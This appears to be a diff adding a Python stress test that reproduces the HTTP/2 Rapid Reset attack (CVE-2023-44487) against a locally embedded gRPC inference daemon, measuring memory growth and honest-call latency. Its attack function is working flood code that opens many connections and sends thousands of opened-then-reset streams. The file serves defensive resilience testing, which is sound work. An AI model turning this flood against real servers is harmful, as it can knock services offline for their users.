@@ -1,0 +1,135 @@
+#!/usr/bin/env python3
+"""Rapid reset (CVE-2023-44487): calls opened and reset at once on many connections, which come again when told to go.
+
+Printed: what the daemon's resident memory grew by (goal: 20 MB), and how long an honest call takes meanwhile that asks
+ten times a second whether the server lives (goal: 10 ms).
+
+Needs hpack. Usage: rapid_reset.py [--connections N] [--seconds S]
+"""
+
+import argparse
+import multiprocessing
+import pathlib
+import selectors
+import socket
+import struct
+import subprocess
+import sys
+import time
+
+import hpack
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "tests" / "e2e"))
+import daemon as e2e  # noqa: E402
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, DATA, RST_STREAM, SETTINGS, WINDOW_UPDATE = 1, 0, 3, 4, 8
+END_STREAM, END_HEADERS = 1, 4
+CALLS = 16_000  # of one connection: more than it is allowed
+
+
+def frame(kind, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def call_headers():
+    return hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
+                                   (":path", "/inference.GRPCInferenceService/ServerLive"),
+                                   ("content-type", "application/grpc"), ("te", "trailers")], huffman=False)
+
+
+def attack(port, connections, end):
+    """Sends as much as each connection takes, and reads nothing but their ends."""
+    first = call_headers()
+    bytes_of_all = PREFACE + frame(SETTINGS, 0, 0, b"") + b"".join(
+        frame(HEADERS, END_HEADERS, stream, first) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+        for stream in range(1, 2 * CALLS, 2))
+    selector = selectors.DefaultSelector()
+
+    def connect():
+        client = socket.create_connection(("127.0.0.1", port))
+        client.setblocking(False)
+        selector.register(client, selectors.EVENT_READ | selectors.EVENT_WRITE, [0])
+
+    def again(client):
+        selector.unregister(client)
+        client.close()
+        connect()
+
+    for _ in range(connections):
+        connect()
+    while time.monotonic() < end:
+        for key, events in selector.select(0.1):
+            sent = key.data
+            try:
+                if events & selectors.EVENT_READ and not key.fileobj.recv(65536):
+                    again(key.fileobj)
+                elif events & selectors.EVENT_WRITE and sent[0] < len(bytes_of_all):
+                    sent[0] += key.fileobj.send(memoryview(bytes_of_all)[sent[0]:sent[0] + 65536])
+            except BlockingIOError:
+                pass
+            except OSError:
+                again(key.fileobj)
+
+
+class HonestClient:
+    """Calls, one after another, on a connection of its own."""
+
+    def __init__(self, port):
+        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
+        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
+        self.headers, self.stream, self.received = call_headers(), -1, b""
+
+    def milliseconds_of_a_call(self):
+        self.stream += 2
+        begin = time.monotonic()
+        self.socket.sendall(frame(HEADERS, END_HEADERS, self.stream, self.headers) +
+                            frame(DATA, END_STREAM, self.stream, bytes(5)))
+        while True:
+            kind, flags, stream = self.next_frame()
+            if stream == self.stream and flags & END_STREAM and kind == HEADERS:
+                return (time.monotonic() - begin) * 1e3
+
+    def next_frame(self):
+        while True:
+            if len(self.received) >= 9:
+                length = int.from_bytes(self.received[:3], "big")
+                if len(self.received) >= 9 + length:
+                    kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
+                    self.received = self.received[9 + length:]
+                    return kind, flags, stream
+            more = self.socket.recv(65536)
+            assert more, "the honest client's connection was closed"
+            self.received += more
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--connections", type=int, default=100)
+    parser.add_argument("--seconds", type=float, default=60)
+    arguments = parser.parse_args()
+    daemon = e2e.embedded()
+    resident = lambda: daemon.resident_bytes() / (1 << 20)
+    honest = HonestClient(daemon.grpc_port)
+    for _ in range(100):
+        honest.milliseconds_of_a_call()
+    before = most = resident()
+    end = time.monotonic() + arguments.seconds
+    attacker = multiprocessing.Process(target=attack, args=(daemon.grpc_port, arguments.connections, end))
+    attacker.start()
+    times = []
+    while time.monotonic() < end:
+        times.append(honest.milliseconds_of_a_call())
+        most = max(most, resident())
+        time.sleep(0.1)
+    attacker.join()
+    daemon.close()
+    times.sort()
+    print(f"{arguments.connections} connections, {arguments.seconds:.0f} s: memory {before:.1f} MB, at most "
+          f"{most - before:.1f} more; {len(times)} honest calls: median {times[len(times) // 2]:.2f} ms, "
+          f"p99 {times[len(times) * 99 // 100]:.2f}, longest {times[-1]:.2f}")
+
+
+if __name__ == "__main__":
+    main()
